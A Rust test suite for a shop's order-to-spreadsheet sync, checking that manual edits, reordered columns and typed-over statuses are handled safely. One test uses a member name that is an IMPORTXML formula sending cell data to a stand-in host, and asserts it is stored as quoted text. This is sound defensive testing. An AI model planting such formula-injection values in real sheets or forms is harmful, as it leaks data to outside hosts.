//! People work in the sheet as people do. Nothing of theirs is touched, nothing of ours depends on it.

use crate::desk::{MEMBERS, ORDERS, fast_town, member, order};
use crate::shopper::{Town, until};
use ledger::Topic;
use orders::fact::Ending;
use serde_json::{Value, json};

/// Cancels an order: its row has to follow.
async fn cancels(town: &Town, no: &str) {
    let now = town.world.shop.app.clock.now();
    town.ledger()
        .end(&no.parse().unwrap(), Ending::Cancelled, now)
        .await
        .unwrap();
    town.written().await;
    assert_eq!(town.cell(ORDERS, no, "狀態").await, "已取消");
}

fn row_of<'r>(rows: &'r mut [Vec<Value>], no: &str) -> &'r mut Vec<Value> {
    rows.iter_mut().find(|row| row[0] == no).unwrap()
}

#[tokio::test(flavor = "multi_thread")]
async fn sorted_inserted_deleted_and_pasted_rows() {
    let town = fast_town(60).await;
    let who = member(town.ledger(), "100000000000000000003", "黃小姐").await;
    let placed = town.orders(&who, 6).await;
    town.written().await;

    // Notes at two orders, sorted the other way round, a blank row, a sum of the owner's own.
    town.by_hand(ORDERS, |rows| {
        let note = rows[0].iter().position(|title| title == "備註").unwrap();
        for row in rows.iter_mut() {
            row.resize(note + 1, Value::Null);
        }
        row_of(rows, &placed[0])[note] = json!("老客戶");
        row_of(rows, &placed[3])[note] = json!("=要開發票");
        rows[1..].reverse();
        rows.insert(3, Vec::new());
        rows.insert(5, vec![Value::Null, json!("小計"), json!(4080)]);
    })
    .await;
    cancels(&town, &placed[0]).await;
    assert_eq!(town.cell(ORDERS, &placed[0], "備註").await, "老客戶");
    assert_eq!(town.cell(ORDERS, &placed[3], "備註").await, "=要開發票");
    assert_eq!(
        town.cell(ORDERS, &placed[3], "狀態").await,
        "待付款",
        "its neighbour is as it was"
    );
    let mut turned = placed.clone();
    turned.reverse();
    assert_eq!(town.keys(ORDERS).await, turned);
    assert_eq!(town.tab(ORDERS).await[5][1..3], ["小計", "4080"]);

    // A row deleted comes back with the next write; a row pasted twice stays, and the first one is kept up to date.
    town.by_hand(ORDERS, |rows| {
        rows.retain(|row| row[0] != *placed[2]);
        let twin = row_of(rows, &placed[4]).clone();
        rows.push(twin);
    })
    .await;
    cancels(&town, &placed[4]).await;
    until("the deleted row is back", async || {
        town.keys(ORDERS).await.contains(&placed[2])
    })
    .await;
    town.written().await;
    let keys = town.keys(ORDERS).await;
    let count = |no: &String| keys.iter().filter(|key| *key == no).count();
    for (at, no) in placed.iter().enumerate() {
        assert_eq!(count(no), if at == 4 { 2 } else { 1 }, "{keys:?}");
    }
    town.world.stop().await.unwrap();
}

#[tokio::test(flavor = "multi_thread")]
async fn a_status_typed_by_hand_is_written_over_and_moves_no_money() {
    let town = fast_town(60).await;
    let formula = "=IMPORTXML(\"http://x.example/\"&A1,\"//a\")";
    let who = member(town.ledger(), "100000000000000000004", formula).await;
    let now = town.world.shop.app.clock.now();
    let no = order(town.ledger(), &who, "＝1+1", now).await;
    town.written().await;
    town.by_hand(ORDERS, |rows| {
        let row = row_of(rows, &no);
        row[1] = json!("已付款，確認中");
        row[2] = json!(1);
    })
    .await;
    assert_eq!(town.cell(ORDERS, &no, "金額").await, "1");
    town.ledger()
        .write_again(Topic::SheetOrder, &no, now)
        .await
        .unwrap();
    town.written().await;
    assert_eq!(town.cell(ORDERS, &no, "狀態").await, "待付款");
    assert_eq!(town.cell(ORDERS, &no, "金額").await, "680");
    assert_eq!(town.status(&no).await, "pending");
    assert!(
        town.ledger()
            .facts(&no.parse().unwrap())
            .await
            .unwrap()
            .is_empty()
    );

    // Names that are formulas: text, with a quote for the day when somebody exports it.
    assert_eq!(
        town.cell(MEMBERS, &who.sub, "姓名").await,
        format!("'{formula}")
    );
    assert_eq!(town.cell(ORDERS, &no, "商品").await, "'＝1+1 ×1");
    for tab in [ORDERS, MEMBERS] {
        let cells = town.typed(tab).await;
        assert!(
            cells.iter().flatten().all(|cell| !cell.is_object()),
            "a formula in {tab}: {cells:?}"
        );
    }
    let sub = &town.typed(MEMBERS).await[1][0];
    assert_eq!(*sub, "100000000000000000004", "21 digits, as text");
    town.world.stop().await.unwrap();
}

#[tokio::test(flavor = "multi_thread")]
async fn columns_are_found_by_their_titles_or_nothing_is_written() {
    let town = fast_town(60).await;
    let who = member(town.ledger(), "100000000000000000005", "許先生").await;
    let placed = town.orders(&who, 2).await;
    town.written().await;

    // 狀態 and 金額 change places, and a column of the owner's own comes between.
    town.by_hand(ORDERS, |rows| {
        for row in rows.iter_mut() {
            row.swap(1, 2);
            row.insert(2, Value::Null);
        }
        rows[0][2] = json!("業務");
        row_of(rows, &placed[0])[2] = json!("阿明");
    })
    .await;
    cancels(&town, &placed[0]).await;
    assert_eq!(town.cell(ORDERS, &placed[0], "金額").await, "680");
    assert_eq!(town.cell(ORDERS, &placed[0], "業務").await, "阿明");

    // A title that we need is gone: this tab stands still and says so; the others go on.
    let rename = async |from: &str, to: &str| {
        town.by_hand(ORDERS, |rows| {
            let place = rows[0].iter().position(|title| title == from).unwrap();
            rows[0][place] = json!(to);
        })
        .await;
    };
    rename("狀態", "進度").await;
    let before = town.tab(ORDERS).await;
    let new = town.orders(&who, 1).await;
    let other = member(town.ledger(), "100000000000000000006", "新會員").await;
    until("the back office is told", async || {
        !town.world.shop.app.sheet_trouble.list().is_empty()
    })
    .await;
    until("the other tab is written all the same", async || {
        town.keys(MEMBERS).await.contains(&other.sub)
    })
    .await;
    let admin = town.shopper("owner").await.opens("/admin").await;
    assert!(
        admin.body.contains("「訂單」頁暫停同步") && admin.body.contains("「狀態」"),
        "{}",
        admin.body
    );
    let looks = town.look(town.google("/_sandbox/state")).await["requests"]
        .as_u64()
        .unwrap();
    until("it was looked at several times more", async || {
        let state = town.look(town.google("/_sandbox/state")).await;
        state["requests"].as_u64().unwrap() > looks + 60
    })
    .await;
    assert_eq!(town.tab(ORDERS).await, before, "not a cell was written");
    let storefront = town.stranger().opens("/").await;
    assert_eq!(storefront.status, 200);

    rename("進度", "狀態").await;
    town.written().await;
    assert_eq!(town.cell(ORDERS, &new[0], "狀態").await, "待付款");
    until("the back office is at ease again", async || {
        town.world.shop.app.sheet_trouble.list().is_empty()
    })
    .await;
    town.world.stop().await.unwrap();
}
